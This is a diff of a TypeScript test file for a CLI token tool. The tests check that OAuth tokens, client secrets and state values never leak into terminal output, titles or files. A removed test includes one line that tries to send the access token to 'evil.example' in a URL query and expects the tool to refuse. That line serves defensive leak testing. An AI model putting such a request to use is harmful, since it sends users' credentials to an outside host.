@@ -1,12 +1,11 @@
-import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
-import { dirname, join, relative } from 'node:path';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { parse } from 'dotenv';
-import { describe, expect, onTestFinished, test } from 'vitest';
+import { describe, expect, test } from 'vitest';
+import { filesUnder, ISSUED, watchCanaries } from '../support/canary/canary-watch.ts';
 import { allFrames, type Expected } from '../support/terminal/screen-emulator.ts';
 import { openTerminalGuide, type TerminalGuide } from '../support/guide/guide-in-terminal.ts';
 import { visit } from '../support/guide/guide-on-loopback.ts';
-import { openCommandWorld } from '../support/store/command-world.ts';
-import { runProgram, startProgram } from '../support/terminal/run-program.ts';
 import { ownFolder } from '../support/terminal/own-folder.ts';
 import type { PseudoTerminal } from '../support/terminal/pseudo-terminal.ts';
 import { holdsSecret, secretForms } from '../support/corpus/secret-forms.ts';
@@ -78,58 +77,45 @@ function tokensIn(root: string): string[] {
   return names.flatMap((name) => values[name] ?? []);
 }
 
-function filesUnder(folder: string): string[] {
-  return readdirSync(folder, { recursive: true, encoding: 'utf8' })
-    .map((name) => join(folder, name))
-    .filter((path) => statSync(path).isFile());
-}
-
 /** The prompt is the last thing on the screen, with nothing typed yet. */
 function asksForRequest(rows: readonly string[]): boolean {
   return /^(?:\? )?request>$/.test(rows.findLast((row) => row !== '')?.trim() ?? '');
 }
 
-/** The one place for the state: an address that asks for the approval, of this very store. */
-const AUTHORIZE_URL = /http:\/\/127\.0\.0\.1:\d+\/admin\/oauth\/authorize\?[^\s\u001b"'`)]+/g;
+/** Each row that a screen ever had, or that scrolled away, once: no line is broken over two. */
+async function everyRow(terminal: PseudoTerminal): Promise<string> {
+  const frames = await allFrames(terminal.raw(), SIZE.cols, SIZE.rows);
+  return [...new Set(frames.flatMap((frame) => frame.split('\n')))].join('\n');
+}
 
 /** P70: no hit outside the chosen file. */
 async function expectNowhere(
   terminal: PseudoTerminal,
   root: string,
-  canaries: Canaries,
+  { saved, retired, state, ...wire }: Canaries,
 ): Promise<void> {
-  const raw = terminal.raw();
-  const frames = await allFrames(raw, SIZE.cols, SIZE.rows);
-  const recording = [raw, ...frames].join('\n\n');
-  const { state, secret, code, hmac, saved, retired } = canaries;
-  const hidden = Object.entries({ secret, code, hmac }).concat(
-    saved.map((token) => ['saved token', token]),
-    retired.map((token) => ['retired token', token]),
-  );
-  for (const [name, value] of [...hidden, ['state', state] as const]) {
-    expect(value.length, name).toBeGreaterThan(15);
-  }
-  for (const [name, value] of hidden) {
-    expect(holdsSecret(recording, value), `${name} in the recording`).toBe(false);
-  }
-  const shown = frames.join('\n\n');
-  expect(shown.includes(state)).toBe(true);
-  expect(holdsSecret(shown.replaceAll(AUTHORIZE_URL, ''), state), 'the state alone').toBe(false);
-  // Nor is it in what the terminal hears and does not show, such as its title.
-  const unshown = raw.match(/\u001b[\]P^_][^\u0007\u001b]*/g) ?? [];
-  expect(holdsSecret(unshown.join('\n'), state), 'the state in a title').toBe(false);
+  const watch = watchCanaries();
+  for (const [name, value] of Object.entries({ ...wire, state })) watch.add(name, value);
+  for (const [at, token] of saved.entries())
+    watch.add(at === 0 ? 'access token' : 'refresh token', token);
+  for (const token of retired) watch.add('retired token', token);
 
-  const files = filesUnder(root).map((path) => relative(root, path));
+  const raw = terminal.raw();
+  const shown = await everyRow(terminal);
+  expect(shown).toContain(state);
+  watch.heard('what the screen ever showed', shown);
+  // Moves of the cursor stand within an address there.
+  watch.heard('what the terminal was sent', raw, 'state');
+  // The state alone: nor is it in what the terminal hears and does not show, such as its title.
+  const unshown = raw.match(/\u001b[\]P^_][^\u0007\u001b]*/g) ?? [];
+  watch.heard('titles', unshown.join('\n'));
+
+  const files = watch.looked(root);
   // The search is of no use where nothing is written.
   expect(files).toContain(join('conf', 'tokenwright', 'memory.json'));
   expect(files).toContain('tape.md');
-  for (const path of files) {
-    const text = `${path}\n${readFileSync(join(root, path), 'latin1')}`;
-    const forbidden = path === '.env' ? hidden.filter(([name]) => name !== 'saved token') : hidden;
-    for (const [name, value] of [...forbidden, ['state', state] as const]) {
-      expect(holdsSecret(text, value), `${name} in ${path}`).toBe(false);
-    }
-  }
+  expect(watch.leaks()).toEqual([]);
+  expect(watch.needed()).toContain('access token in file .env');
 }
 
 test('the search finds a value in any of its forms', () => {
@@ -316,7 +302,7 @@ describe.each(ENTERS)(
   'in %s, from the start to the token on the practice store',
   (_, args, steps) => {
     test('Enter and one approval are at most seven keys', async () => {
-      const { guide } = await open(['--practice', ...args], NOTHING_KNOWN);
+      const { guide, root } = await open(['--practice', ...args], NOTHING_KNOWN);
       const { terminal } = guide;
       let keys = 0;
       const press = (...pressed: string[]) => {
@@ -331,84 +317,11 @@ describe.each(ENTERS)(
       press(...(args.length === 0 ? ['a'] : ['a', 'enter']));
       await terminal.waitFor('Permanent token');
       expect(keys).toBeLessThanOrEqual(7);
+      // Its own store's secrets are nobody's to know beforehand: none stands anywhere whole.
+      expect(await everyRow(terminal)).not.toMatch(ISSUED);
+      for (const path of filesUnder(root)) {
+        expect(`${path}\n${readFileSync(path, 'latin1')}`).not.toMatch(ISSUED);
+      }
     });
   },
 );
-
-describe('what commands say and write of a store with a name', () => {
-  test('holds no secret, but for the file of its token', async () => {
-    const world = await openCommandWorld();
-    onTestFinished(() => world.close());
-    const root = await ownFolder();
-    const folders = {
-      HOME: root,
-      XDG_CONFIG_HOME: join(root, 'conf'),
-      XDG_STATE_HOME: join(root, 'state'),
-    };
-    const place = { cwd: world.folder, env: { ...world.env, ...folders } };
-    const said: string[] = [];
-    const run = async (code: number, ...args: string[]) => {
-      const ended = await runProgram(args, place);
-      said.push(ended.stdout, ended.stderr);
-      expect(ended.code, `${args.join(' ')}: ${ended.stderr}`).toBe(code);
-    };
-
-    await run(0, 'stores', 'add', 'tea', '--json');
-    const asked = ['--redirect-uri', world.redirectUri, '--scopes', 'read_products', '--expiring'];
-    const signIn = startProgram(['token', '--store', 'tea', '--save', '--json', ...asked], place);
-    const [, url = ''] = await signIn.said(/^(http:\S+\/admin\/oauth\/authorize\?\S+)$/m);
-    await visit((await world.store.approve(url)).redirect);
-    const { code, stdout, stderr } = await signIn.end;
-    expect(code).toBe(0);
-    said.push(stdout, stderr.replaceAll(AUTHORIZE_URL, ''));
-    const file = join(root, 'state', 'tokenwright', 'stores', 'tea.env');
-    const tokens = () => {
-      const { TOKENWRIGHT_ACCESS_TOKEN, TOKENWRIGHT_REFRESH_TOKEN } = parse(readFileSync(file));
-      return [TOKENWRIGHT_ACCESS_TOKEN ?? '', TOKENWRIGHT_REFRESH_TOKEN ?? ''];
-    };
-    const first = tokens();
-    for (const args of [['stores'], ['stores', '--json'], ['check', '--store', 'tea', '--json']])
-      await run(0, ...args);
-    // Its port is nobody else's, whatever other tests hold.
-    await run(0, 'doctor', '--store', 'tea', '--redirect-uri', world.redirectUri, '--json');
-    for (const args of [
-      ['request', 'GET', 'shop.json'],
-      ['request', 'GET', 'shop.json', '--json'],
-      ['graphql', '{ shop { name } }', '--json'],
-      ['run', '--', process.execPath, '-e', 'process.argv'],
-    ])
-      await run(0, args[0] ?? '', '--store', 'tea', ...args.slice(1));
-    await run(1, 'request', 'GET', 'nothing.json', '--store', 'tea');
-    await run(2, 'request', 'GET', `https://evil.example/?${first[0] ?? ''}`, '--store', 'tea');
-    await run(2, 'check', '--store', first[0] ?? '');
-    await run(2, 'stores', 'add', first[1] ?? '');
-    await run(2, 'stores', 'add', 'two', '--shop', 'demo', '--client-id', first[0] ?? '');
-    await run(0, 'refresh', '--store', 'tea', '--save');
-    const secrets = [...first, ...tokens(), world.env['TOKENWRIGHT_CLIENT_SECRET'] ?? ''];
-
-    const holders = filesUnder(root).filter((path) => {
-      const text = readFileSync(path, 'latin1');
-      return secrets.some((secret) => holdsSecret(text, secret));
-    });
-    expect(holders).toEqual([file]);
-    expect(statSync(file).mode & 0o777).toBe(0o600);
-    expect(statSync(dirname(file)).mode & 0o777).toBe(0o700);
-    const list = join(root, 'conf', 'tokenwright', 'stores.json');
-    expect(filesUnder(root)).toContain(list);
-
-    // A token that somebody has written into the list is not repeated either.
-    const before = readFileSync(list, 'utf8');
-    writeFileSync(list, before.replace('"tea"', `"tea", "note": "${first[0] ?? ''}"`));
-    await run(2, 'stores');
-    await run(2, 'check', '--store', 'tea');
-    writeFileSync(list, before);
-    await run(0, 'revoke', '--store', 'tea', '--yes', '--json');
-    await run(0, 'stores', 'remove', 'tea', '--yes', '--json');
-    expect(existsSync(file)).toBe(false);
-    await run(0, 'forget', '--yes', '--json');
-    for (const secret of secrets) {
-      expect(secret.length).toBeGreaterThan(15);
-      expect(said.some((text) => holdsSecret(text, secret))).toBe(false);
-    }
-  });
-});
